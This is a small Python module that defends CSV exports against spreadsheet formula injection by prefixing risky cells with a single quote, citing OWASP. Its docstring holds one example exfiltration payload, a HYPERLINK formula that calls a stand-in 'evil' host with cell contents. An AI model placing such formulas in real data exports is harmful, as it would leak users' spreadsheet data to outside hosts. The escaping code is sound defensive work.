"""CSV cells that spreadsheets show as text, whatever a user typed.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return before one) as a formula: an exported better answer
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet when an SME opens it. OWASP's
remedy: such a cell gets a leading single quote, which the spreadsheet shows as text. The
escaping is for CSV's readers only; JSON Lines exports stay byte-faithful.
"""

from __future__ import annotations

import json
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: lists and dicts as JSON, text that a spreadsheet would run
    as a formula behind a single quote; numbers, booleans and None unchanged."""
    if isinstance(value, list | dict):
        value = json.dumps(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
